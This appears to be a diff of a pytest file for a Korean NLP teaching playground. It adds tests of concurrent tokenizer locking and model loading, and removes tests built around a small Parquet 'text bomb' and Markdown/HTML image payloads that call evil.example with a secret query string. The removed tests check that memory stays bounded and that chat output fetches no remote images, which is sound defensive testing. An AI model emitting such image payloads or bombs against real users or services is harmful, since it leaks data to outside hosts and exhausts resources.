@@ -1,7 +1,8 @@
-"""Hardening, second round (engine side): shared tokenizers under one lock, the Parquet text bomb, the Hub-viewer
-clause, a class behind one address, a fair queue, chat Markdown without remote images.
+"""The engine under concurrent requests: models shared by many students at once load once and answer every one.
 
-Each test here failed on the code before the fix it names.
+A shared fast tokenizer is used only under its model's one lock (counting tokens reset its padding while another
+request tokenized a padded batch: "Unable to create tensor"); every text model loads from parallel threads in a
+fresh process (transformers' lazy imports); a fresh app answers its first calls of every task fired together.
 """
 
 from __future__ import annotations
@@ -11,14 +12,45 @@ import os
 import subprocess
 import sys
 import threading
-from pathlib import Path
 
 import pytest
+from gradio_client import Client
 
-from playground import limits
-from tests.conftest import NSMC
+from app import build_app
+from conftest import NSMC, ROOT, free_port
+from playground.device import detect
+from playground.engine import Engine
+from playground.tasks import chat, seq2seq, summarize, translate
+from tabs.i18n import I18N
 
-ROOT = Path(__file__).resolve().parent.parent
+_PARALLEL_LOADS = r"""
+import json, os, sys, threading
+sys.path.insert(0, ".")
+from playground.catalog import load_catalog
+from playground.device import detect
+from playground.engine import Engine
+
+catalog = load_catalog(sys.argv[1])
+entries = [e for task in ("chat", "sentiment", "summarize", "translate") for e in catalog.entries(task)]
+failures = []
+for _ in range(int(sys.argv[2])):
+    engine = Engine(catalog, detect("cpu"))  # a fresh cache: every model is a first load again
+    barrier = threading.Barrier(len(entries))
+
+    def load(entry):
+        barrier.wait()
+        try:
+            engine.model(entry)
+        except Exception as exc:
+            failures.append(f"{entry.key}: {exc.__cause__!r}"[:200])
+
+    threads = [threading.Thread(target=load, args=(e,)) for e in entries]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+print(json.dumps({"loads": len(entries), "failures": failures}))
+"""
 
 
 def _long_text() -> str:
@@ -31,22 +63,23 @@ def _long_text() -> str:
     return text[:20_000]
 
 
-# -- F8: concurrent Summarize fails ----------------------------------------------------------------------------
+# -- one lock per shared tokenizer -------------------------------------------------------------------------------------
 def test_concurrent_long_summaries_translations_and_chats_never_fail(engine):
-    """F8: token counting used the shared fast tokenizer outside ``runner.lock`` and reset its padding while
+    """Token counting used the shared fast tokenizer outside ``runner.lock`` and reset its padding while
     another request tokenized a padded batch under it ("Unable to create tensor"). Eight threads at once, two
-    rounds: long summaries (many chunks, many counts), translations and chats on the same models: 0 failures."""
-    from playground.tasks import chat, summarize, translate
-
-    text = _long_text()
+    rounds: long summaries (many chunks, many counts), translations and chats on the same models: 0 failures.
+    (Every use of the tokenizer holding the lock is checked exhaustively below; the race itself, with fixed
+    counts, by the primitive test.)"""
+    text = _long_text()[:6_000]  # about 8,000 tokens: some 30 chunks of the stand-in's 256-token window
     history = [{"role": "user", "content": text[:1500]}, {"role": "assistant", "content": text[1500:2500]}]
     jobs = {
         "summarize": lambda: summarize.summarize(engine, text, options={"length": "short"}),
-        "translate": lambda: translate.translate(engine, text[:4_000], source="ko", target="en"),
+        "translate": lambda: translate.translate(engine, text[:1_500], source="ko", target="en"),
         "chat": lambda: list(chat.stream_reply(engine, text[:300], history, sampling={"max_new_tokens": 8})),
     }
-    for job in jobs.values():  # load each model once, outside the race
-        job()
+    for model in (summarize.pick_model(engine, text), translate.pick_model(engine, "ko", "en"),
+                  engine.resolve("chat", None)):
+        engine.model(model)  # load each model once, outside the race
     failures: list[str] = []
     done: list[str] = []
     plan = ["summarize"] * 4 + ["translate"] * 2 + ["chat"] * 2
@@ -72,11 +105,9 @@ def test_concurrent_long_summaries_translations_and_chats_never_fail(engine):
 
 
 def test_counting_never_breaks_another_requests_padded_batch(engine):
-    """F8, the primitive: two threads count tokens of a long text while two run padded batches on the same runner
+    """The primitive: two threads count tokens of a long text while two run padded batches on the same runner
     (fixed counts, no clock). Before the fix a count reset the padding between another thread's "pad" and "encode"
     and about one batch in ten failed with "Unable to create tensor"."""
-    from playground.tasks import seq2seq, summarize
-
     runner = engine.model(summarize.pick_model(engine, "요약할 글입니다. 한국어 문장."))
     text = _long_text()
     failures: list[str] = []
@@ -147,10 +178,8 @@ class _Spy:
 
 @pytest.mark.parametrize("task", ["summarize", "translate", "chat"])
 def test_every_use_of_a_shared_tokenizer_holds_its_lock(engine, task):
-    """F8, exhaustively: each call into the shared tokenizer (encode, pad, decode, chat template) during a summary,
+    """Exhaustively: each call into the shared tokenizer (encode, pad, decode, chat template) during a summary,
     a translation and a chat reply happens under the model's one lock."""
-    from playground.tasks import chat, summarize, translate
-
     text = _long_text()
     if task == "chat":
         model = engine.model(engine.resolve("chat", None))
@@ -174,102 +203,50 @@ def test_every_use_of_a_shared_tokenizer_holds_its_lock(engine, task):
     assert [name for name, held in seen if not held] == []
 
 
-# -- F3: a 2.7 KB Parquet file must not take gigabytes ---------------------------------------------------------
-_BOMB_RUN = r"""
-import json, sys
-sys.path.insert(0, ".")
-import duckdb  # noqa: F401 - imported before the baseline: only the work is measured
-from playground.data import local
-from playground.data.common import Query, make_query
+# -- first loads and first calls at the same moment --------------------------------------------------------------------
 
 
-def peak_mb():
-    return int(open("/proc/self/status").read().split("VmHWM:")[1].split()[0]) // 1024
-
-
-local.set_data_dir(sys.argv[1])
-base = peak_mb()
-info = local.local_info("bomb.parquet")
-page = local.local_rows("bomb.parquet", None, 1, 100, Query())
-found = local.local_rows("bomb.parquet", None, 1, 100, make_query("가나다", "label", ">", "3"))
-stats = local.local_stats("bomb.parquet", None, Query(), "text", "text")
-values = local.column_values("bomb.parquet", None, Query(), ["text"], 2_000)
-print(json.dumps({"growth_mb": peak_mb() - base, "rows": info.num_rows, "cell": page.rows[0]["text"][-40:],
-                  "cell_len": len(page.rows[0]["text"]), "stats_rows": stats.rows, "found": found.total,
-                  "value_len": max(len(v[0]) for v in values)}))
-"""
-
-
-def test_a_parquet_text_bomb_stays_small(tmp_path):
-    """F3: 50 rows of one 60 MB string, dictionary-encoded and zstd-compressed (a few KB on disk). Opening it,
-    a page, a search, the statistics and a column's values: text cells are cut inside DuckDB (and DuckDB's late
-    materialization, which sorted whole rows under a LIMIT, is off), so the process grows by less than 200 MB
-    (before: 1.9 GB for a bomb of 20 × 20 MB, 9.5 GB in the issue) and the cell says how large it is."""
-    pa = pytest.importorskip("pyarrow")
-    pq = pytest.importorskip("pyarrow.parquet")
-    big = "가나다라" * (60 * 2**20 // 12)
-    column = pa.DictionaryArray.from_arrays(pa.array([0] * 50, pa.int32()), pa.array([big]))
-    pq.write_table(pa.table({"text": column, "label": list(range(50))}), tmp_path / "bomb.parquet",
-                   compression="zstd", use_dictionary=True)
-    del big, column
-    assert (tmp_path / "bomb.parquet").stat().st_size < 16_384
-    done = subprocess.run([sys.executable, "-c", _BOMB_RUN, str(tmp_path)], cwd=ROOT, capture_output=True,
-                          text=True, timeout=300, env={**os.environ, "HF_HUB_OFFLINE": "1"})
+def test_every_text_model_loads_from_parallel_threads(tiny_catalog_path):
+    """A fresh process (transformers' lazy imports not yet done) loads all text models at once, three rounds."""
+    done = subprocess.run([sys.executable, "-c", _PARALLEL_LOADS, str(tiny_catalog_path), "3"], cwd=ROOT,
+                          capture_output=True, text=True, timeout=600, env={**os.environ, "HF_HUB_OFFLINE": "1"})
     assert done.returncode == 0, done.stderr[-2000:]
     result = json.loads(done.stdout.strip().splitlines()[-1])
-    assert result["rows"] == 50 and result["stats_rows"] == 50 and result["found"] == 46
-    assert result["growth_mb"] < 200, result
-    assert result["cell"].endswith("… [60.0 MB]")
-    assert result["cell_len"] <= limits.DATASET_TEXT_CELL_BYTES
-    assert result["value_len"] <= limits.DATASET_TEXT_CELL_BYTES // 4
+    assert result["loads"] >= 5
+    assert result["failures"] == []
 
 
-def test_ordinary_text_cells_are_not_cut(tmp_path):
-    """F3: cells under the cap come whole, in pages and in a column's values."""
-    from playground.data import local
-    from playground.data.common import Query
-
-    (tmp_path / "small.csv").write_text("text,label\n" + "".join(f"리뷰 {i} 좋아요,{i % 2}\n" for i in range(30)),
-                                        encoding="utf-8")
-    local.set_data_dir(tmp_path)
+def test_first_calls_of_a_fresh_app_at_the_same_moment(catalog):
+    """The first minute of a class: /translate both ways, /summarize, /sentiment and /chat fired together."""
+    demo = build_app(Engine(catalog, detect("cpu")))
+    demo.launch(server_name="127.0.0.1", server_port=free_port(), prevent_thread_lock=True, quiet=True,
+                i18n=I18N, max_threads=64)
+    calls = [
+        ("/translate", ("안녕하세요. 반갑습니다.", "ko", "en"), {}),
+        ("/translate", ("Good morning. Nice to meet you.", "en", "ko"), {}),
+        ("/summarize", ("도서관은 아홉 시에 문을 엽니다. 학생들은 책을 빌립니다. " * 3,), {}),
+        ("/sentiment", ("정말 재밌어요",), {}),
+        ("/chat", ("hello",), {"max_new_tokens": 5}),
+    ]
     try:
-        page = local.local_rows("small.csv", None, 1, 10, Query())
-        assert page.rows[3]["text"] == "리뷰 3 좋아요"
-        assert local.column_values("small.csv", None, Query(), ["text", "label"], 2)[1] == ("리뷰 1 좋아요", 1)
+        clients = [Client(demo.local_url, verbose=False) for _ in calls]
+        barrier = threading.Barrier(len(calls))
+        errors: list[str] = []
+
+        def call(client, api, args, kwargs):
+            barrier.wait()
+            try:
+                assert client.predict(*args, api_name=api, **kwargs)
+            except Exception as exc:  # noqa: BLE001 - collected for the assertion below
+                errors.append(f"{api} {args[1:]}: {exc}"[:300])
+
+        threads = [threading.Thread(target=call, args=(c, *spec)) for c, spec in zip(clients, calls, strict=True)]
+        for t in threads:
+            t.start()
+        for t in threads:
+            t.join(timeout=300)
+        assert errors == []
+        for c in clients:
+            c.close()
     finally:
-        local.set_data_dir(None)
-
-
-# -- chat Markdown draws no remote images --------------------------------------------------------------------
-@pytest.mark.parametrize(("sent", "shown"), [
-    ("![x](https://evil.example/p.png?q=secret)", "[x](https://evil.example/p.png?q=secret)"),
-    ("see ![logo][1]\n\n[1]: https://evil.example/l.png", "see [logo][1]\n\n[1]: https://evil.example/l.png"),
-    ('<img src="https://evil.example/a.png">', '<\u200bimg src="https://evil.example/a.png">'),
-    ("<IMG/SRC=https://e.example/a>", "<\u200bIMG/SRC=https://e.example/a>"),
-    ('<div style="background:url(https://e.example/b)">', '<\u200bdiv style="background:url(https://e.example/b)">'),
-    ("a < b and <thinking>ok</thinking>, **bold** [link](https://hf.co)",
-     "a < b and <thinking>ok</thinking>, **bold** [link](https://hf.co)"),
-])
-def test_chat_messages_fetch_nothing_when_drawn(sent, shown):
-    """F11: an answer (or a history a client sends back) with Markdown or HTML images made every reader's browser
-    fetch from any host. The Chatbot now gets images as links and fetching tags as text."""
-    from tabs.chat import _messages, no_remote_images
-
-    assert no_remote_images(sent) == shown
-    assert _messages([{"role": "assistant", "content": sent}])[0]["content"] == shown
-
-
-def test_a_streamed_answer_is_drawn_without_images(engine, monkeypatch):
-    """F11 through the Chat tab's handler: every step it yields to the Chatbot has the images turned into links."""
-    from playground.tasks import chat as chat_task
-    from tabs import chat as chat_tab
-
-    def answer(*args, **kwargs):
-        for text in ("![a](https://evil.example/1.png)", "![a](https://evil.example/1.png) <img src=//e.example/2>"):
-            yield chat_task.Reply(text, "tiny/chat", 0)
-
-    monkeypatch.setattr(chat_task, "stream_reply", answer)
-    monkeypatch.setattr(chat_task, "code_snippet", lambda *a, **k: "")
-    steps = list(chat_tab.respond(engine, "![me](https://evil.example/me.png)", [], "", "", 0.7, 0.9, 16, 1.0))
-    drawn = [m["content"] for conversation, *_ in steps for m in conversation]
-    assert drawn and not any("![" in text or "<img" in text for text in drawn)
+        demo.close()
